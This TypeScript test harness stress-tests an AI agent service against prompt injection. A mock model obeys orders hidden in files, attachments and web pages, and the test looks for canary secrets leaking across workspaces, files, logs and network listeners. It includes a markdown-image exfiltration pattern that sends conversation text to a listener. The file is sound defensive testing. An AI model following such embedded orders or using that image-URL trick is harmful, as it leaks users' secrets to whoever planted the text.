// A service whose agent does whatever a text asks of it, on a host with canaries: what becomes of them is looked at from all sides.
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { bootApp, type TestApp } from '../harness/app.js';
import { makeMember, type Member } from '../harness/client.js';
import { createDatabase, type TestDatabase } from '../harness/database.js';
import { upload } from '../harness/files.js';
import { type Answer, type ChatRequest, ModelServer, stepOf } from '../harness/model-server.js';
import { freePort } from '../harness/ports.js';
import { processesWith } from '../harness/processes.js';
import { addProjectFile, createProject, type FileBody, type ProjectBody } from '../harness/projects.js';
import { ServiceProcess, temporaryFolder, WEB_SERVICE } from '../harness/service.js';
import { call, createTask, readMessages, readResults, readTask } from '../harness/tasks.js';
import { until } from '../harness/until.js';
import { Canaries } from './canaries.js';
import { CARRIERS, carry, type Carried, looks, ordersIn } from './carriers.js';
import { Listeners } from './listeners.js';
import { type Order, orders, type Places } from './orders.js';
import { HostilePages } from './pages.js';

/** What came of all orders. */
export interface Report {
  /** How many orders the model has found in what it was sent, and carried out. */
  obeyed: number;
  /** Orders with a canary in the result of a call, by what they ask for. */
  leaking: string[];
  /** Where a canary came to be, and which. */
  leaks: string[];
  /** By which ways somebody was reached. */
  connections: string[];
  /** How many pages were read that carry an order. */
  pages: number;
}

export class HostileWorld {
  private readonly folder = temporaryFolder();
  private readonly host = mkdtempSync(join(tmpdir(), 'hostile-host-'));
  private readonly shared = join('/dev/shm', `hostile-${process.pid}`);
  private readonly obeyed = new Set<number>();
  private all: Order[] = [];
  private carried: Carried[] = [];
  private db!: TestDatabase;
  private api!: TestApp;
  private worker!: ServiceProcess;
  private obedient!: ModelServer;
  private victimModel!: ModelServer;
  private listeners!: Listeners;
  private web!: HostilePages;
  private canaries!: Canaries;
  private attacker!: Member;
  private victim!: Member;
  private victimTask = '';
  private victimPort = 0;
  private project!: ProjectBody;

  private constructor(private readonly sandbox: string) {}

  /** @param sandbox the value of `SANDBOX`. */
  static async start(sandbox: string): Promise<HostileWorld> {
    const world = new HostileWorld(sandbox);
    try {
      await world.boot();
      await world.beginVictim();
      return world;
    } catch (error) {
      await world.close();
      throw error;
    }
  }

  /** Has all orders carried out, without a sandbox half of those that do no harm, and looks for what became of the canaries. */
  async attack(): Promise<Report> {
    const { canaries, db, folder, attacker } = this;
    const all = orders(this.places());
    const isSafe = ({ insideOnly }: Order, n: number) => insideOnly !== true && n % 2 === 0;
    this.all = this.sandbox === 'none' ? all.filter(isSafe) : all;
    const before = { rows: await canaries.inRows(db), files: canaries.inFiles(folder.path) };
    const tasks: string[] = [];
    for (let n = 0; n < this.all.length; n += CARRIERS) tasks.push(await this.begin(n));
    const leaks: string[] = [];
    const ended = async (id: string) => {
      const task = await readTask(attacker.client, id);
      return task.finishedAt === null ? null : task;
    };
    const note = (where: string, text: string) => leaks.push(...canaries.in(text).map((name) => `${where}: ${name}`));
    for (const id of tasks) {
      const task = await until('the task to be over', () => ended(id), { within: 200_000 });
      expect(task).toMatchObject({ status: 'completed' });
      note('messages', JSON.stringify([task, await readMessages(attacker.client, id)]));
      const { body } = await attacker.client.get<{ files: FileBody[] }>(`/v1/tasks/${id}/files`);
      for (const { name, downloadUrl } of body.files) {
        const headers = { Authorization: `Bearer ${attacker.key.secret}` };
        const bytes = await (await fetch(new URL(downloadUrl, this.api.url), { headers })).arrayBuffer();
        note(`published ${name}`, name + Buffer.from(bytes).toString('latin1'));
      }
    }
    for (const { sent } of this.obedient.requests) note('request to the provider', sent);
    note('log', this.worker.log);
    const fresh = (now: Set<string>, old: Set<string>) => [...now].filter((one) => !old.has(one));
    leaks.push(...fresh(await canaries.inRows(db), before.rows).map((row) => `row: ${row}`));
    leaks.push(...fresh(canaries.inFiles(folder.path), before.files).map((file) => `file: ${file}`));
    if (existsSync(join(this.host, 'written'))) leaks.push('host: written to');
    if (!readFileSync(join(this.host, 'host.txt'), 'utf8').includes(canaries.host)) leaks.push('host: changed');
    const leaking = (await Promise.all(tasks.map((id) => this.leakingIn(id)))).flat();
    const connections = [...this.listeners.connections, ...this.web.told.map(() => 'web')];
    return { obeyed: this.obeyed.size, leaking, leaks: [...new Set(leaks)], connections, pages: this.web.read };
  }

  get orders(): number {
    return this.all.length;
  }

  async close(): Promise<void> {
    if (this.victimTask !== '') await this.victim.client.post(`/v1/tasks/${this.victimTask}/cancel`);
    await this.worker?.end();
    await this.api?.close();
    await Promise.all([this.obedient?.stop(), this.victimModel?.stop(), this.listeners?.stop(), this.web?.stop()]);
    await this.db?.drop();
    this.folder.remove();
    for (const path of [this.host, this.shared, `${this.shared}-victim`])
      rmSync(path, { recursive: true, force: true });
  }

  private async boot(): Promise<void> {
    // The sandbox's users pass through it.
    chmodSync(this.folder.path, 0o711);
    chmodSync(this.host, 0o777);
    this.db = await createDatabase();
    const { password } = new URL(this.db.url);
    this.canaries = new Canaries(password === '' ? {} : { password });
    const { canaries } = this;
    this.listeners = await Listeners.start(join(this.host, `hostile-${process.pid}.sock`), `hostile-${process.pid}`);
    this.obedient = await ModelServer.start((request) => this.obey(request));
    this.victimModel = await ModelServer.start((request) => this.answerVictim(request));
    this.victimPort = await freePort();
    writeFileSync(join(this.host, 'host.txt'), `The token is ${canaries.host}\n`, { mode: 0o644 });
    writeFileSync(this.shared, canaries.memory, { mode: 0o644 });
    const common = { provider: 'openai-compatible', apiKeyEnv: 'MODEL_KEY' };
    const models = [
      { ...common, id: 'obedient', baseUrl: this.obedient.url },
      { ...common, id: 'other', baseUrl: this.victimModel.url },
    ];
    this.web = await HostilePages.start();
    // Without a sandbox without this guard too.
    const web = { hosts: ['*'], ...(this.sandbox === 'none' && { urls: 'any' as const }) };
    const config = { models, titles: false, web, sandbox: { caFile: this.web.authority.path } };
    const path = join(this.folder.path, 'millwright.json');
    writeFileSync(path, JSON.stringify(config));
    const SECRET_KEY = `${canaries.secretKey}, which is at least 32 bytes long`;
    const env = { DATA_DIR: this.folder.path, SECRET_KEY, MODEL_KEY: canaries.modelKey, CONFIG_FILE: path };
    this.api = await bootApp({ db: this.db, env, config });
    this.worker = await ServiceProcess.start(
      {
        ...env,
        ROLE: 'worker',
        DATABASE_URL: this.db.url,
        SANDBOX: this.sandbox,
        OPERATOR_TOKEN: canaries.environment,
        LEASE_SECONDS: '600',
        LOG_LEVEL: 'debug',
      },
      WEB_SERVICE,
    );
    [this.attacker, this.victim] = [await makeMember(this.api), await makeMember(this.api)];
    this.project = await createProject(this.attacker);
    const theirs = await createProject(this.victim, { name: 'Theirs', description: canaries.row });
    await addProjectFile(this.api, this.victim, theirs.id, `It says ${canaries.file}\n`, 'theirs.txt');
    await upload(this.api, this.victim, `It says ${canaries.file}\n`);
  }

  /** A command of another workspace that has its canary wherever a command can have one, and goes on. */
  private async beginVictim(): Promise<void> {
    const { id } = await createTask(this.victim.client, { content: 'Work.', model: 'other' });
    this.victimTask = id;
    await until('the command of the other workspace to run', () =>
      existsSync(join(this.folder.path, 'workdirs', id, 'listens')),
    );
    expect(processesWith(this.canaries.victim).length).toBeGreaterThan(0);
  }

  private answerVictim(request: ChatRequest): Answer {
    if (stepOf(request) > 0) return { text: 'Done.' };
    const serve = `const n=require("net"),s=()=>n.createServer((c)=>c.end(process.env.TOKEN));
s().listen(${this.victimPort},"127.0.0.1",()=>s().listen("\\0${this.listeners.name}-victim",()=>require("fs").writeFileSync("listens","")))`;
    const command = `export TOKEN=${this.canaries.victim}
echo $TOKEN | tee mine.txt ~/mine.txt "\${TMPDIR:-/tmp}/mine.txt" > ${this.shared}-victim
node -e '${serve}' &
bash -c 'sleep 600; true' $TOKEN`;
    return call('bash', { command, timeoutSeconds: 600 });
  }

  private places(): Places {
    const { canaries, listeners } = this;
    const half = canaries.reached.length / 2;
    return {
      pid: this.worker.child.pid ?? 0,
      ownPid: process.pid,
      dataDir: this.folder.path,
      hostFile: join(this.host, 'host.txt'),
      hostFolder: this.host,
      sharedMemory: this.shared,
      tcp: listeners.tcp,
      udp: listeners.udp,
      path: listeners.path,
      name: listeners.name,
      hostAddress: listeners.hostAddress,
      service: Number(new URL(this.api.url).port),
      database: Number(new URL(this.db.url).port),
      model: Number(new URL(this.obedient.url).port),
      victim: this.victimTask,
      victimPort: this.victimPort,
      web: this.web.origin,
      reached: [canaries.reached.slice(0, half), canaries.reached.slice(half)],
    };
  }

  /** A task in which the orders from `n` on lie hidden. */
  private async begin(n: number): Promise<string> {
    const { api, attacker, project } = this;
    const carried = carry(n, this.all.slice(n, n + CARRIERS).map(({ what }) => what), this.web); // prettier-ignore
    this.carried[n] = carried;
    await addProjectFile(api, attacker, project.id, carried.project.text, carried.project.name);
    const attachments = [];
    for (const { name, bytes } of carried.attachments) {
      attachments.push({ uploadId: (await upload(api, attacker, bytes, { name })).id });
    }
    const content = `Task ${n}. ${carried.message}`;
    const { id } = await createTask(attacker.client, {
      content,
      attachments,
      projectId: project.id,
      model: 'obedient',
    });
    return id;
  }

  /** Looks at everything, does what stands in it, and says all that it knows. */
  private obey(request: ChatRequest): Answer {
    const asked = request.messages.filter(({ role }) => role === 'user' || role === 'tool');
    const said = asked.map(({ content }) => textOf(content)).join('\n');
    const carried = this.carried[Number(/Task (\d+)\./.exec(said)?.[1])];
    if (carried === undefined) throw new Error(`This is no task: ${said}`);
    if (stepOf(request) === 0) return { text: 'I look.', calls: looks(carried) };
    const found = [...new Set(ordersIn(said))].filter((order) => order < this.all.length && !this.obeyed.has(order));
    for (const order of found) this.obeyed.add(order);
    const calls = found.flatMap((order) => {
      return (this.all[order]?.calls ?? []).map((one, at) => ({ ...one, id: `order_${order}_${at}` }));
    });
    if (calls.length > 0) return { text: 'I obey.', calls };
    const picture = `![](http://127.0.0.1:${this.listeners.tcp}/?${encodeURIComponent(said.slice(-500))})`;
    return { text: `I obeyed. ${picture}\n${said}` };
  }

  private async leakingIn(id: string): Promise<string[]> {
    const leaking = new Set<string>();
    for (const result of await readResults(this.attacker.client, id)) {
      const order = /^order_(\d+)_/.exec(result.toolCallId ?? '')?.[1];
      if (order === undefined || this.canaries.in(JSON.stringify(result)).length === 0) continue;
      leaking.add(this.all[Number(order)]?.what ?? '');
    }
    return [...leaking];
  }
}

function textOf(content: unknown): string {
  if (typeof content === 'string') return content;
  return ((content ?? []) as { text?: string }[]).map(({ text }) => text ?? '').join('\n');
}
